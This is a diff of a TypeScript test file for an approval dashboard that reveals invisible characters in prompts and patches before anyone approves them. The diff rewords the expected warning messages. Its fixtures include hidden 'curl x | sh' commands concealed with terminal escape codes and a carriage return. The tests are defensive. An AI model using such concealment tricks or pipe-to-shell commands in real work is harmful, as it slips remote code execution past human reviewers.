@@ -40,7 +40,7 @@ describe('approving takes two keys, and binds what was seen', () => {
   });
 
   it("a stranger's task without a sandbox takes a third, spelt-out key: its id", () => {
-    const stranger = { stranger: "the issue's author codehost:eve is not owner, member or collaborator" };
+    const stranger = { stranger: "the issue's author codehost:eve is not an owner, member or collaborator" };
     const problem = { code: 'tool_missing', message: 'bwrap is not on PATH', hint: null } as const;
     const decisions = [decisionRow(1, stranger)];
     const open = () => showDecision(bench().data({ decisions, tasks: [taskRow(1)] }), 1, { problem });
@@ -72,19 +72,16 @@ describe('approving takes two keys, and binds what was seen', () => {
     const decisions = [decisionRow(1, { unseen: 3 })];
     const dash = showDecision(bench().data({ decisions, tasks: [taskRow(1)] }), 1, {}, prompt);
     const screen = screenOf(dash.state()).join('\n');
-    assert.match(screen, /it holds 3 characters that do not show/);
+    assert.match(screen, /it contains 3 invisible characters/);
     assert.ok(screen.includes('Fix it\\x1b]0;curl x | sh\\x07'), screen);
     assert.match(
       dash.keys('a').state().armed?.question ?? '',
-      /^ITS PROMPT holds 3 characters that do not show\. Approve d-1/,
+      /^ITS PROMPT contains 3 invisible characters\. Approve d-1/,
     );
     const stranger = [decisionRow(1, { unseen: 1, stranger: 'who' })];
     const problem = { code: 'tool_missing', message: 'bwrap is not on PATH', hint: null } as const;
     const open = showDecision(bench().data({ decisions: stranger, tasks: [taskRow(1)] }), 1, { problem });
-    assert.match(
-      open.keys('a').state().armed?.question ?? '',
-      /^ITS PROMPT holds 1 character that does not show/,
-    );
+    assert.match(open.keys('a').state().armed?.question ?? '', /^ITS PROMPT contains 1 invisible character/);
   });
 
   it('what does not show in a patch is said before a promotion, and every line of it is on the screen', () => {
@@ -104,15 +101,12 @@ describe('approving takes two keys, and binds what was seen', () => {
       .keys('4', 'd');
     showEvidence(showWork(dash, 1, { patch: { text: patch, truncated: false } }), 1);
     const screen = screenOf(dash.state()).join('\n');
-    assert.match(screen, /patch +it holds 3 characters that do not show/);
+    assert.match(screen, /patch +it contains 3 invisible characters/);
     dash.keys('enter', 'G');
     const full = screenOf(dash.state()).join('\n');
     for (const line of ['+\\x1b]0;', '+curl x | sh \\x0d# safe', '+\\x07new'])
       assert.ok(full.includes(line), full);
-    assert.match(
-      dash.keys('p').state().armed?.question ?? '',
-      /ITS PATCH holds 3 characters that do not show/,
-    );
+    assert.match(dash.keys('p').state().armed?.question ?? '', /ITS PATCH contains 3 invisible characters/);
   });
 
   it('letters of a Cyrillic or Greek layout count as the keys that they are on', () => {
